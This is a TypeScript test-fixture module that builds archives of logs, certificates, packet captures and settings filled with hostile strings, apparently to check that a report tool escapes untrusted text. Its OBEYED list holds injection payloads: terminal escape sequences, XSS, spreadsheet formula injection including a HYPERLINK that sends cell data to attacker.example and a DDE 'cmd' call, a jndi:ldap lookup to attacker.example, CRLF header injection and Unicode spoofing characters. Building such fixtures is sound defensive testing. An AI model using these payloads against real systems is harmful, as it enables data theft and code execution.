import { archive, LOG_NAME } from './archives.ts'
import { CAPTURE, handshakes, STORE } from './certificates.ts'
import { certificate, ed25519, pem } from './der.ts'
import { logLine, type Piece } from './logs.ts'

/** Text that wants to be obeyed: by a terminal, a browser, a spreadsheet, a reader's eye, a ticket system. */
export const OBEYED: readonly string[] = [
  '\x1b[2J\x1b[31mpwned\x1b]0;title\x07',
  '\x9b31mpwned\x9d0;title\x9c',
  '\x1bP+q\x1b\\\x1b_G\x1b\\',
  'a\rNo issue\x08\x08\x7f',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://attacker.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '＝1+1',
  '|calc',
  '\u202emoc.elpmaxe\u202c.attacker.example',
  '\u2066\u2067\u2068\u2069\u200f\u061c',
  'cucm\u200b.example.com\u00ad\ufeff',
  'a\u2028b\u2029c',
  `z${'\u0301'.repeat(200)}`,
  '\u{e0041}\u{e0042}',
  '[x](javascript:alert(1)) ![y](http://attacker.example/z.png)',
  '`code` ``` |table| **bold** #1 @everyone',
  ']]> --> <!-- &amp; &#0;',
  `%0d%0aSet-Cookie: a=b ${'$'}{jndi:ldap://attacker.example/a} {{7*7}}`,
  'cucm\0.example.com',
]

/** All of it in every place that a report quotes: log, addresses, SNI, subjects, issuers, alternative names, settings, names of members. */
export function obeyedTexts(): Iterable<Piece> {
  const key = ed25519()
  const chains = OBEYED.map((text, index) => [
    certificate({
      subject: text,
      issuer: `by ${text}`,
      key,
      by: key,
      serial: index + 1,
      names: [text, `*.${text}`],
    }),
    certificate({ subject: `by ${text}`, issuer: text, key, by: key, serial: index + 101, ca: true }),
  ])
  const log = OBEYED.flatMap(text => [
    logLine(text.replaceAll('\n', ' '), '10.48.36.215'),
    logLine('cucm.example.com', text),
    `2022-07-11T18:55:26.016+02:00 ${text} traffic_server[18242]: [ET_NET 0] ERROR: SSL connection failed for '${text}': error:1416F086: SSL routines:tls_process_server_certificate:certificate verify failed ${text}\n`,
    `2022-07-11T18:55:26.016+02:00 vcsc traffic_server[18242]: UTCTime="2022-07-11 16:55:26,016" Module="network.http.trafficserver" Level="INFO": Detail="Receive Request" Txn-id="${text}" TrackingID="" Src-ip="127.0.0.1" Src-port="1" Msg="GET http://vcs:8443/${Buffer.from(`example.com/https/${text}/8443`).toString('base64url')}/x HTTP/1.1"\n`,
    `2022-07-11T18:55:26.016+02:00 vcsc traffic_server[18242]: UTCTime="2022-07-11 16:55:26,016" Module="network.http.trafficserver" Level="INFO": Detail="Sending Response" Txn-id="${text}" TrackingID="" Dst-ip="127.0.0.1" Dst-port="1" Msg="HTTP/1.1 502 Next Hop Connection Failed ${text}"\n`,
  ])
  const settings = OBEYED.map(
    (text, index) => `*c xConfiguration Zones Zone ${index + 1} UcServer Address: "${text}"\n`,
  )
  return archive([
    [LOG_NAME, Buffer.from(log.join(''))],
    ['xconf_dump_vcsc_2022-07-11_16_55_44.txt', Buffer.from(settings.join(''))],
    [STORE, Buffer.from(chains.map(([, ca]) => pem(ca!)).join(''))],
    [CAPTURE, Buffer.concat([handshakes(chains)])],
    ...OBEYED.map((text, index): [string, Uint8Array] => [
      `${index}${text.replaceAll('\0', '').slice(0, 40)}.txt.gz`,
      Buffer.from([0x1f, 0x8b, 8, 0]),
    ]),
    ...OBEYED.map((text, index): [string, Uint8Array] => [
      `sni${index}.pcap`,
      handshakes(chains.slice(index, index + 1), text),
    ]),
  ])
}
